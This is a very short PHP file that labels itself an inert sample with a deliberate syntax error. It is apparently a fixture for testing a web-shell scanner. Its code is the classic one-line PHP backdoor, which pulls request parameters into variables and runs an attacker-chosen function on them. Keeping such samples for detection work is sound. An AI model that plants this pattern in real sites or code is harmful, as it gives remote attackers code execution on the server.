<?php
shodo inert sample: deliberate syntax error, this file never runs
 extract($_REQUEST); @$a($b); ?>
